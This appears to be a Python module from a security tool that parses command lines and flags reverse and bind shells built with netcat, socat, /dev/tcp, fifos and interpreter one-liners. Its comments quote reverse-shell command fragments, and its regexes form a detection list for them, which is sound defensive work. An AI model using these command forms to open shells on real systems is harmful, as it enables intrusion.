# SPDX-License-Identifier: Apache-2.0
"""Reverse shells: an argv that hands a shell to a socket.

classify_reverse_shell looks at an exec's argv directly (nc -e, socat
exec:, xterm -display) and inside the strings it runs: `sh -c` scripts
(/dev/tcp redirections, fifo back-pipes, `nc h p | sh`, zsh's ztcp) and
interpreter one-liners (python, perl, ruby, php, node, lua, awk), following
nested strings MAX_DEPTH deep.

The argv forms come from the tools' own docs, Sigma and Falco rules and
ET Open (see shared/reference/signatures.md, 4). Everything is pure:
hostile input yields an empty list, never an exception.
"""
from __future__ import annotations

import itertools
import re
from dataclasses import dataclass, field
from typing import Any, Sequence

from guard.detect.classify import Finding, dedupe_findings, port_number, short, split_host_port
from guard.detect.classify.launchers import as_argv, basename, unwrap_launchers
from guard.detect.classify.shellwords import (
    SHELLS, UNKNOWN_SHELL, Stage, command_name, command_words, dialects_of, pipelines, shell_mode,
    shell_script_operand,
)

#: How much of a script or inline code is looked at.
MAX_SCRIPT = 16 * 1024
#: Nesting of `sh -c "python -c '...os.system(\"bash -c ...\")'"` followed.
MAX_DEPTH = 4
#: Characters of a script kept as evidence.
EXCERPT_CHARS = 256

#: netcat's names: with -e it hands a program to its socket.
NETCATS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "netcat.traditional",
                     "netcat.openbsd", "ncat.exe", "nc.exe"})


def _target(host: str | None, port: str | int | None) -> dict[str, Any] | None:
    """Evidence for where a connection goes; None when nothing is known."""
    if not host and port is None:
        return None
    target: dict[str, Any] = {}
    if host:
        target["host"] = host
    number = port if isinstance(port, int) else port_number(port)
    if number is not None:
        target["port"] = number
    elif isinstance(port, str) and port:
        target["port"] = port
    return target


# -- shared by the argv and the script readers


_DEV_NET = re.compile(r"/dev/(tcp|udp)/([^/\s]+)/([A-Za-z0-9-]+)")


def _dev_net_target(text: str) -> dict[str, Any] | None:
    match = _DEV_NET.match(text)
    return _target(match.group(2), match.group(3)) if match else None


def _shell_reads_stdin(words: list[str]) -> bool:
    return shell_mode(words) is not None


def _finding(pattern: str, dialect: str, confidence: str, *, target: dict[str, Any] | None = None,
             mode: str = "reverse", excerpt: str | None = None, **extra: Any) -> Finding:
    evidence: dict[str, Any] = {"pattern": pattern, "mode": mode}
    if target:
        evidence["target"] = target
    if excerpt:
        evidence["excerpt"] = short(excerpt, EXCERPT_CHARS)
    evidence.update({key: value for key, value in extra.items() if value is not None})
    return Finding(type="reverse_shell", confidence=confidence, dialect=dialect, evidence=evidence)


# -- netcat and friends


_NC_SHORT_WITH_VALUE = set("ecpswiqxXTIOVMmPgGo")
_NC_LONG_WITH_VALUE = {"--sh-exec", "--exec", "--lua-exec", "--source-port", "--source", "--wait",
                       "--proxy", "--proxy-type", "--proxy-auth", "--proxy-dns", "--idle-timeout",
                       "--delay", "--output", "--hex-dump", "--ssl-cert", "--ssl-key",
                       "--ssl-trustfile", "--ssl-ciphers", "--ssl-servername", "--ssl-alpn",
                       "--allow", "--allowfile", "--deny", "--denyfile", "--max-conns"}
_NC_EXEC_OPTIONS = ("-e", "-c", "--exec", "--sh-exec", "--lua-exec")


@dataclass
class _Netcat:
    flags: set[str] = field(default_factory=set)
    values: dict[str, str] = field(default_factory=dict)
    operands: list[str] = field(default_factory=list)

    @property
    def listening(self) -> bool:
        return "-l" in self.flags or "--listen" in self.flags

    @property
    def scanning(self) -> bool:
        return "-z" in self.flags

    @property
    def executes(self) -> tuple[str, str] | None:
        for option in _NC_EXEC_OPTIONS:
            if option in self.values:
                return option, self.values[option]
        return None

    def target(self) -> dict[str, Any] | None:
        if self.listening:
            port = self.values.get("-p") or (self.operands[-1] if self.operands else None)
            return _target(None, port)
        host = self.operands[0] if self.operands else None
        return _target(host, self.operands[1] if len(self.operands) > 1 else None)


def _parse_netcat(args: list[str]) -> _Netcat:
    """nc/ncat/netcat options in any order (GNU getopt permutes them)."""
    parsed = _Netcat()
    i = 0
    while i < len(args):
        arg = args[i]
        if arg == "--":
            parsed.operands.extend(args[i + 1:])
            break
        if arg.startswith("--"):
            name, eq, value = arg.partition("=")
            if not eq and name in _NC_LONG_WITH_VALUE and i + 1 < len(args):
                value, eq = args[i + 1], "="
                i += 1
            if eq:
                parsed.values.setdefault(name, value)
            else:
                parsed.flags.add(name)
        elif arg.startswith("-") and len(arg) > 1:
            for j in range(1, len(arg)):
                letter = arg[j]
                if letter in _NC_SHORT_WITH_VALUE:
                    value = arg[j + 1:]
                    if not value and i + 1 < len(args):
                        value = args[i + 1]
                        i += 1
                    parsed.values.setdefault("-" + letter, value)
                    break
                parsed.flags.add("-" + letter)
        else:
            parsed.operands.append(arg)
        i += 1
    return parsed


def _netcat_findings(words: list[str]) -> list[Finding]:
    nc = _parse_netcat(words[1:])
    executes = nc.executes
    if executes is None:
        return []   # a plain client, listener (nc -l 8080) or port check (nc -z): not a shell
    option, command = executes
    return [_finding("netcat_exec", "netcat", "high", target=nc.target(),
                     mode="bind" if nc.listening else "reverse", option=option,
                     program=short(command, 200))]


# -- socat


_SOCAT_OPTIONS_WITH_VALUE = {"-b", "-t", "-T", "-lf", "-lp", "-L", "-W", "-r", "-R"}
_SOCAT_CONNECT = {"tcp", "tcp4", "tcp6", "tcp-connect", "tcp4-connect", "tcp6-connect", "openssl",
                  "openssl-connect", "ssl", "udp", "udp4", "udp6", "udp-connect", "udp4-connect",
                  "udp6-connect", "udp-sendto", "udp4-sendto", "udp6-sendto", "sctp",
                  "sctp-connect", "socks", "socks4", "socks4a", "socks5", "socks5-connect",
                  "proxy", "proxy-connect", "vsock-connect", "dccp-connect", "udplite-connect",
                  "openssl-dtls-client", "dtls"}
_SOCAT_LISTEN = {"tcp-listen", "tcp-l", "tcp4-listen", "tcp4-l", "tcp6-listen", "tcp6-l",
                 "openssl-listen", "ssl-l", "openssl-l", "udp-listen", "udp-l", "udp4-listen",
                 "udp6-listen", "udp-recvfrom", "udp-recv", "sctp-listen", "sctp-l",
                 "vsock-listen", "dccp-listen", "openssl-dtls-server"}
_SOCAT_EXEC = {"exec", "system"}
_SOCAT_STDIO = {"-", "stdio", "stdin", "stdout", "readline", "file", "open", "create", "pty",
                "fd", "pipe", "gopen"}
_INTERPRETERS = re.compile(r"(python|pypy|perl|ruby|php|node|nodejs|lua|luajit|awk|gawk|tclsh|"
                           r"expect|irb|pwsh|powershell)[0-9.]*")


def _socat_address(address: str) -> tuple[str, str]:
    """(lower-case address type, the part before options) of a socat address."""
    if address == "-":
        return "-", ""
    kind, sep, rest = address.partition(":")
    kind = kind.split(",", 1)[0].lower()
    return kind, rest.split(",", 1)[0] if sep else ""


#: A field of a socat address: colons inside [brackets] (IPv6) do not split.
#: (A split at `:(?![^[]*])` looked ahead to the end at every colon: quadratic.)
_SOCAT_FIELD = re.compile(r"(?:\[[^\]]*\]?|[^:\[])+")


def _socat_target(kind: str, body: str) -> dict[str, Any] | None:
    fields = _SOCAT_FIELD.findall(body)
    if kind in _SOCAT_LISTEN:
        return _target(None, fields[0] if fields else None)
    if len(fields) >= 2:
        return _target(fields[-2].strip("[]"), fields[-1])
    return _target(fields[0].strip("[]"), None) if fields else None


def _runs_a_shell(command: str) -> bool:
    first = command.strip().split(" ", 1)[0] if command.strip() else ""
    name = basename(first).lower()
    return name in SHELLS or _INTERPRETERS.fullmatch(name) is not None


def _socat_findings(words: list[str]) -> list[Finding]:
    addresses: list[str] = []
    i = 1
    while i < len(words):
        arg = words[i]
        if arg in _SOCAT_OPTIONS_WITH_VALUE:
            i += 2
            continue
        if arg == "-" or not arg.startswith("-"):
            addresses.append(arg)
        i += 1
    if len(addresses) < 2:
        return []
    (kind_a, body_a), (kind_b, body_b) = (_socat_address(a) for a in addresses[:2])
    for (exec_kind, exec_body), (net_kind, net_body) in (((kind_a, body_a), (kind_b, body_b)),
                                                         ((kind_b, body_b), (kind_a, body_a))):
        if exec_kind not in _SOCAT_EXEC:
            continue
        if net_kind in _SOCAT_CONNECT:
            mode = "reverse"
        elif net_kind in _SOCAT_LISTEN:
            mode = "bind"
        else:
            continue
        # exec of a shell or interpreter is a shell; exec of anything else may
        # be an inetd-style service, so it ranks lower.
        confidence = "high" if _runs_a_shell(exec_body) else "medium"
        return [_finding("socat_exec", "socat", confidence,
                         target=_socat_target(net_kind, net_body), mode=mode,
                         program=short(exec_body, 200), excerpt=" ".join(words))]
    return []   # a relay between two sockets (TCP-LISTEN:80,fork TCP:host:8080) is a proxy


# -- network clients used as pipeline stages


def _net_client(stage: Stage, words: list[str]) -> tuple[str, dict[str, Any] | None, bool] | None:
    """(dialect, target, listening) when a stage talks to the network on stdio."""
    name = command_name(words)
    for fd, op, target in stage.redirections:
        if op in ("<", "<>") and fd in (None, "0") and _DEV_NET.match(target):
            return "bash", _dev_net_target(target), False
    if name in NETCATS:
        nc = _parse_netcat(words[1:])
        if nc.scanning or (not nc.operands and not nc.listening):
            return None
        return "netcat", nc.target(), nc.listening
    if name == "telnet":
        operands = [w for w in words[1:] if not w.startswith("-")]
        if operands:
            return "telnet", _target(operands[0], operands[1] if len(operands) > 1 else None), False
    if name == "openssl" and words[1:2] == ["s_client"]:
        for i, arg in enumerate(words):
            if arg == "-connect" and i + 1 < len(words):
                host, port = split_host_port(words[i + 1])
                return "openssl", _target(host, port), False
        return "openssl", None, False
    if name == "socat":
        kinds = [_socat_address(w) for w in words[1:] if w == "-" or not w.startswith("-")]
        nets = [(k, b) for k, b in kinds if k in _SOCAT_CONNECT or k in _SOCAT_LISTEN]
        if nets and any(k in _SOCAT_STDIO for k, _ in kinds):
            kind, body = nets[0]
            return "socat", _socat_target(kind, body), kind in _SOCAT_LISTEN
    if name == "ztcp":
        operands = [w for w in words[1:] if not w.startswith("-")]
        if operands:
            return "zsh", _target(operands[0], operands[1] if len(operands) > 1 else None), False
    return None


# -- shell scripts (the string after sh -c)


def _has_fifo(pipelines: list[list[Stage]]) -> bool:
    for pipeline in pipelines:
        for stage in pipeline:
            words = command_words(stage.words)
            name = command_name(words)
            if name == "mkfifo" or (name == "mknod" and "p" in words[2:]):
                return True
    return False


def _dev_net_redirections(stage: Stage) -> list[tuple[str | None, str, str]]:
    return [r for r in stage.redirections if _DEV_NET.match(r[2])]


def _stdin_duplicated(stage: Stage) -> bool:
    """`0>&1`, `0<&1`, `<&3`, `<>`: the command's stdin comes from the socket too."""
    for fd, op, target in stage.redirections:
        if op in ("<&", ">&") and fd == "0":
            return True
        if op == "<&" and fd is None:
            return True
        if op in ("<", "<>") and fd in (None, "0") and _DEV_NET.match(target):
            return True
    return False


def _fd_consumers(pipelines: list[list[Stage]]) -> set[str]:
    """Descriptors read by a shell or a `$line` loop (`sh <&5`, `do $line >&5`),
    collected in one pass: asked per `exec N<>/dev/tcp/...` line, the
    question cost a pass each, quadratic in a script of such lines."""
    numbers: set[str] = set()
    for pipeline in pipelines:
        for stage in pipeline:
            used = {target.lstrip("$").strip("{}") for _, op, target in stage.redirections
                    if op in ("<&", ">&")}
            if not used:
                continue
            words = command_words(stage.words)
            if words and (command_name(words) in SHELLS or words[0].startswith("$")
                          or words[0] == "eval"):
                numbers |= used
    return numbers


def _dev_net_findings(pipelines: list[list[Stage]], script: str) -> list[Finding]:
    findings: list[Finding] = []
    consumers: set[str] | None = None          # read once, on first need
    for pipeline in pipelines:
        for stage in pipeline:
            redirections = _dev_net_redirections(stage)
            if not redirections:
                continue
            target = _dev_net_target(redirections[0][2])
            words = command_words(stage.words)
            if words[:1] == ["exec"] and len(words) == 1:
                fd = next((f for f, _, _ in redirections if f), None)
                if fd:
                    consumers = _fd_consumers(pipelines) if consumers is None else consumers
                if fd and fd.strip("{}") in consumers:
                    findings.append(_finding("dev_tcp_exec_fd", "bash", "high", target=target,
                                             excerpt=script, fd=fd))
                elif fd:
                    # An fd held on a socket with nothing feeding a shell: as
                    # often an HTTP probe (`exec 3<>/dev/tcp/h/80; cat <&3`).
                    findings.append(_finding("dev_tcp_exec_fd", "bash", "low", target=target,
                                             excerpt=script, fd=fd))
            elif _shell_reads_stdin(words):
                interactive = shell_mode(words) == "interactive"
                confidence = "high" if interactive or _stdin_duplicated(stage) else "medium"
                findings.append(_finding("dev_tcp_shell", "bash", confidence, target=target,
                                         excerpt=script))
            elif words and _stdin_duplicated(stage) and any(
                    op in _OUTPUT_REDIRECTIONS for _, op, _ in redirections):
                findings.append(_finding("dev_tcp_stdio", "bash", "high", target=target,
                                         excerpt=script, program=command_name(words)))
            # Anything else (`echo > /dev/tcp/db/5432`, `cat < /dev/tcp/h/80`)
            # is a port check or a download, not a shell.
    return findings


#: Redirections that send a command's output to their target (csh's among them).
_OUTPUT_REDIRECTIONS = frozenset({">", ">&", "&>", ">>", "&>>", "<>", ">|", ">>&", ">&!", ">>&!",
                                  ">!", ">>!", ">?", ">>?"})


def _pipeline_findings(pipelines: list[list[Stage]], script: str) -> list[Finding]:
    """`nc h p | sh`, `telnet h p | sh | telnet h q`, and fifo back-pipes
    (`mkfifo f; cat f | sh -i 2>&1 | nc h p > f`)."""
    findings: list[Finding] = []
    fifo = _has_fifo(pipelines)
    for pipeline in pipelines:
        clients: list[tuple[int, tuple[str, dict[str, Any] | None, bool]]] = []
        shells: list[int] = []
        for index, stage in enumerate(pipeline):
            words = command_words(stage.words)
            client = _net_client(stage, words)
            if client is not None:
                clients.append((index, client))
            elif _shell_reads_stdin(words):
                shells.append(index)
        if not clients or not shells:
            continue
        (first_client, (dialect, target, listening)) = clients[0]
        if first_client < shells[-1]:
            findings.append(_finding("pipe_to_shell", dialect, "high", target=target,
                                     mode="bind" if listening else "reverse", excerpt=script))
        elif fifo:
            findings.append(_finding("fifo_backpipe", dialect, "high", target=target,
                                     mode="bind" if listening else "reverse", excerpt=script))
    return findings


def _ztcp_findings(pipelines: list[list[Stage]], script: str) -> list[Finding]:
    """zsh's `ztcp host port` followed by a shell on `$REPLY`."""
    target = None
    for pipeline in pipelines:
        for stage in pipeline:
            words = command_words(stage.words)
            if command_name(words) == "ztcp":
                client = _net_client(stage, words)
                target = client[1] if client else None
    if target is None:
        return []
    on_reply = any(target_text in ("$REPLY", "${REPLY}")
                   for pipeline in pipelines for stage in pipeline
                   for _, _, target_text in stage.redirections)
    # ztcp alone is a connection; a shell on its descriptor makes it a shell.
    return [_finding("zsh_ztcp", "zsh", "high", target=target, excerpt=script)] if on_reply else []


def _script_findings(script: str, depth: int,
                     dialects: tuple[str, ...] = UNKNOWN_SHELL) -> list[Finding]:
    """A shell string read with each dialect the shell running it may
    speak (shellwords.dialects_of): what any reading finds counts, so a
    string cannot hide behind the rules of a shell it is not run by. The
    commands it runs are followed once each, however many readings name
    them."""
    script = script[:MAX_SCRIPT]
    findings: list[Finding] = []
    nested: dict[tuple[str, ...], None] = {}
    for dialect in dialects:
        parsed = pipelines(script, dialect=dialect)
        findings += _dev_net_findings(parsed, script) + _pipeline_findings(parsed, script)
        findings += _ztcp_findings(parsed, script)
        for pipeline in parsed:
            for stage in pipeline:
                words = command_words(stage.words)
                if words and words[0] != "exec":
                    nested.setdefault(tuple(words))
    for words in nested:
        findings += _argv_findings(list(words), depth + 1)
    return findings


# -- interpreter one-liners


def _inline_code(language: str, args: list[str]) -> str | None:
    """The code given on the command line (python -c, perl -e, php -r, node -e, ...)."""
    flags = {"python": ("-c", "-m"), "perl": ("-e", "-E"), "ruby": ("-e",), "php": ("-r",),
             "node": ("-e", "--eval", "-p", "--print"), "lua": ("-e",)}[language]
    # Letters whose value is the rest of the word, or the next word when nothing is attached.
    with_value = {"python": "WXQ", "perl": "MmIdDxVCFi", "ruby": "rICEFTWx", "php": "cdzt",
                  "node": "rC", "lua": "l"}[language]
    attached_only = language == "perl"
    pieces: list[str] = []
    i = 0
    while i < len(args):
        arg = args[i]
        if arg == "--" or not arg.startswith("-") or arg == "-":
            break
        if arg.startswith("--"):
            name, eq, value = arg.partition("=")
            if name in flags:
                code = value if eq else (args[i + 1] if i + 1 < len(args) else "")
                return code or None                     # node --eval/--print: one piece of code
            i += 1
            continue
        letters = arg[1:]
        for j, letter in enumerate(letters):
            rest = letters[j + 1:]
            if "-" + letter in flags:
                if language == "python" and letter == "m":
                    return "\n".join(pieces) or None     # a module run, not inline code
                if (not rest or all("-" + c in flags for c in rest)) and i + 1 < len(args):
                    rest = args[i + 1]                  # `-e CODE`, and `node -pe CODE`
                    i += 1
                pieces.append(rest)
                if language in ("python", "php", "node"):
                    return rest or None                 # what follows is the code's own argv
                break
            if letter in with_value:
                if not rest and not attached_only:
                    i += 1                              # `-W ignore`, `-r socket`
                break
            if language == "php" and letter == "f":
                return "\n".join(pieces) or None         # a script file, not inline code
        i += 1
    return "\n".join(pieces) or None


def _awk_program(args: list[str]) -> str | None:
    i = 0
    while i < len(args):
        arg = args[i]
        if arg == "--":
            return args[i + 1] if i + 1 < len(args) else None
        if arg in ("-e", "--source"):
            return args[i + 1] if i + 1 < len(args) else None
        if arg in ("-f", "--file", "-E", "--exec"):
            return None
        if arg in ("-F", "-v", "-i", "-l", "--field-separator", "--assign", "--include", "--load"):
            i += 2
            continue
        if arg.startswith("-") and arg != "-":
            i += 1
            continue
        return arg
    return None


#: A quoted string in inline code. An unclosed quote runs to the end: with
#: `{6,}` and a closing quote required, `'\'\'...` was retried from every
#: escaped quote to the end of the text (quadratic); now every match
#: succeeds where it starts, and short literals are dropped afterwards.
_QUOTED = re.compile(r"'([^'\\]*(?:\\.[^'\\]*)*)(?:'|\\?\Z)"
                     r'|"([^"\\]*(?:\\.[^"\\]*)*)(?:"|\\?\Z)', re.S)


@dataclass(frozen=True)
class _CodeSignature:
    """What a one-liner in one language needs to be a reverse shell."""
    dialect: str
    socket: re.Pattern[str]       # the socket API is in use
    connects: re.Pattern[str]     # ... and a connection is made or accepted
    executes: re.Pattern[str]     # ... and a program is run or stdio is handed over
    targets: tuple[re.Pattern[str], ...]
    bind: tuple[re.Pattern[str], ...] = ()   # all present: it listens instead of connecting


_CODE_SIGNATURES = {
    "python": _CodeSignature(
        "python",
        re.compile(r"\bsocket\b|create_connection"),
        re.compile(r"\.connect(?:_ex)?\s*\(|create_connection|\.accept\s*\("),
        re.compile(r"\bdup2\b|pty\.spawn|subprocess|os\.system|os\.popen|\bPopen\b|os\.exec|"
                   r"\bexec\s*\(|check_output|getoutput"),
        (re.compile(r"""(?:connect|create_connection)\(\s*\(\s*['"]([^'"]+)['"]\s*,\s*(\d+)"""),),
        (re.compile(r"\.bind\s*\("), re.compile(r"\.accept\s*\("))),
    "perl": _CodeSignature(
        "perl",
        re.compile(r"\bsocket\s*\(|IO::Socket|Socket::INET|\buse\s+Socket\b"),
        re.compile(r"\bconnect\s*\(|PeerAddr|PeerHost|IO::Socket::INET|\baccept\s*\("),
        re.compile(r"\bexec\b|\bsystem\b|open\s*\(\s*STD(IN|OUT|ERR)|fdopen|`|\bqx\b"),
        (re.compile(r"""PeerAddr\s*(?:=>|,)\s*['"]([^'":]+):(\d+)"""),
         re.compile(r"""\$i\s*=\s*['"]([^'"]+)['"]\s*;\s*\$p\s*=\s*(\d+)"""),
         re.compile(r"""sockaddr_in\(\s*(\d+)\s*,\s*inet_aton\(\s*['"]([^'"]+)['"]"""),
         re.compile(r"""inet_aton\(\s*['"]([^'"]+)['"]\s*\)""")),
        (re.compile(r"\blisten\s*\(|LocalPort|Listen\s*=>"),)),
    "ruby": _CodeSignature(
        "ruby",
        re.compile(r"TCPSocket|Socket\.(new|tcp)|UDPSocket|TCPServer"),
        re.compile(r"TCPSocket\.(new|open)|Socket\.tcp|\.connect\(|\.accept\b"),
        re.compile(r"\bexec\b|\bspawn\b|\bsystem\b|IO\.popen|Open3|`|%x"),
        (re.compile(r"""TCPSocket\.(?:new|open)\(\s*['"]([^'"]+)['"]\s*,\s*['"]?(\d+)"""),),
        (re.compile(r"TCPServer"),)),
    "php": _CodeSignature(
        "php",
        re.compile(r"fsockopen|stream_socket_client|socket_create|socket_connect|"
                   r"stream_socket_server"),
        re.compile(r"fsockopen|stream_socket_client|socket_connect|stream_socket_accept|"
                   r"socket_accept"),
        re.compile(r"\b(exec|shell_exec|system|passthru|popen|proc_open|pcntl_exec)\s*\(|`"),
        (re.compile(r"""fsockopen\(\s*['"](?:tcp://|udp://)?([^'"]+)['"]\s*,\s*(\d+)"""),
         re.compile(r"""stream_socket_client\(\s*['"](?:tcp|udp|ssl|tls)://([^'":]+):(\d+)""")),
        (re.compile(r"stream_socket_server|socket_listen"),)),
    "node": _CodeSignature(
        "node",
        re.compile(r"""require\(\s*['"](?:node:)?(?:net|tls)['"]\s*\)|net\.Socket|net\.connect|"""
                   r"""createConnection|tls\.connect"""),
        re.compile(r"\.connect\s*\(|createConnection|createServer"),
        re.compile(r"child_process|\bspawn\s*\(|\bexec\s*\(|execSync"),
        (re.compile(r"""connect\(\s*(\d+)\s*,\s*['"]([^'"]+)['"]"""),
         re.compile(r"""host\s*:\s*['"]([^'"]+)['"]\s*,\s*port\s*:\s*(\d+)""")),
        (re.compile(r"createServer"),)),
    "lua": _CodeSignature(
        "lua",
        re.compile(r"""socket\.tcp|socket\.connect|require\s*\(?\s*['"]socket['"]"""),
        re.compile(r"connect\s*\(|:accept\s*\("),
        re.compile(r"os\.execute|io\.popen"),
        (re.compile(r"""connect\(\s*['"]([^'"]+)['"]\s*,\s*['"]?(\d+)"""),),
        (re.compile(r":bind\(|socket\.bind"),)),
}


def _code_target(signature: _CodeSignature, code: str) -> dict[str, Any] | None:
    for pattern in signature.targets:
        match = pattern.search(code)
        if match:
            first, second = (list(match.groups()) + [None])[:2]
            if first.isdigit() and second and not second.isdigit():
                first, second = second, first          # (port, host) orders
            return _target(first, second or None)
    return None


def _code_findings(language: str, code: str, depth: int) -> list[Finding]:
    code = code[:MAX_SCRIPT]
    findings: list[Finding] = []
    signature = _CODE_SIGNATURES[language]
    if (signature.socket.search(code) and signature.connects.search(code)
            and signature.executes.search(code)):
        bind = bool(signature.bind) and all(p.search(code) for p in signature.bind)
        findings.append(_finding(f"{language}_socket_exec", signature.dialect, "high",
                                 target=_code_target(signature, code),
                                 mode="bind" if bind else "reverse", excerpt=code))
    # Strings inside the code may themselves be shell commands (os.system("bash -i >& ..."))
    literals = (match.group(1) or match.group(2) or "" for match in _QUOTED.finditer(code))
    for literal in itertools.islice((text for text in literals if len(text) >= 6), 32):
        findings += _script_findings(literal, depth + 1)
    return findings


_AWK_INET = re.compile(r"/inet[46]?/(tcp|udp)/(\d+)/([^/\s\"']+)/(\d+)")


def _awk_findings(program: str) -> list[Finding]:
    match = _AWK_INET.search(program)
    if match is None:
        return []
    local_port, host, port = match.group(2), match.group(3), match.group(4)
    bind = local_port != "0" and host == "0"
    target = _target(None, local_port) if bind else _target(host, port)
    interactive = "|&" in program and "getline" in program
    return [_finding("awk_inet", "awk", "high" if interactive else "medium", target=target,
                     mode="bind" if bind else "reverse", excerpt=program)]


def _language(name: str) -> str | None:
    patterns = (("python", r"python[0-9.]*|pypy[0-9.]*"), ("perl", r"perl[0-9.]*"),
                ("ruby", r"ruby[0-9.]*"), ("php", r"php[0-9.]*(-cli)?"),
                ("node", r"node|nodejs"), ("lua", r"lua[0-9.]*|luajit"))
    for language, pattern in patterns:
        if re.fullmatch(pattern, name):
            return language
    return None


def _xterm_findings(words: list[str]) -> list[Finding]:
    """`xterm -display attacker:1`: a terminal drawn on someone else's X server."""
    for i, arg in enumerate(words[:-1]):
        if arg in ("-display", "--display"):
            host = words[i + 1].rpartition(":")[0]
            if host and host not in ("localhost", "127.0.0.1", "unix"):
                return [_finding("xterm_display", "xterm", "medium", target=_target(host, None),
                                 excerpt=" ".join(words))]
    return []


def _dash_c_value(args: list[str]) -> str | None:
    """The value of -c/--command (`script -qc CMD`, `su -c CMD`, `--command=CMD`)."""
    for i, arg in enumerate(args):
        if arg.startswith("--command="):
            return arg.split("=", 1)[1]
        if arg == "--command" or (arg.startswith("-") and not arg.startswith("--") and "c" in arg):
            if arg == "--command" or arg.endswith("c"):
                return args[i + 1] if i + 1 < len(args) else None
            return arg[arg.index("c") + 1:]          # -cCMD, -qcCMD
    return None


def _argv_findings(argv: list[str], depth: int) -> list[Finding]:
    if depth > MAX_DEPTH:
        return []
    words = unwrap_launchers(argv)
    if not words:
        return []
    name = command_name(words)
    if name in SHELLS:
        script = shell_script_operand(words)
        return _script_findings(script, depth, dialects_of(name)) if script is not None else []
    if name in NETCATS:
        return _netcat_findings(words)
    if name == "socat":
        return _socat_findings(words)
    if name in ("awk", "gawk", "nawk", "mawk"):
        program = _awk_program(words[1:])
        return _awk_findings(program) if program else []
    if name in ("script", "su", "runuser"):
        command = _dash_c_value(words[1:])
        return _script_findings(command, depth) if command is not None else []
    if name == "xterm":
        return _xterm_findings(words)
    language = _language(name)
    if language is not None:
        code = _inline_code(language, words[1:])
        return _code_findings(language, code, depth) if code else []
    return []


def classify_reverse_shell(argv: Sequence[str]) -> list[Finding]:
    """Findings of type reverse_shell for an argv that hands a shell to a socket.

    Looks inside `sh -c` / `bash -c` strings and interpreter one-liners.
    Evidence names the matched pattern, reverse or bind mode, and the target
    host/port when the text gives them. Port checks (`nc -z`), listeners
    without -e (`nc -l 8080`), relays (`socat TCP-LISTEN:80,fork TCP:h:8080`)
    and scripts run from files are not shells and give nothing."""
    return dedupe_findings(_argv_findings(as_argv(argv), 0))
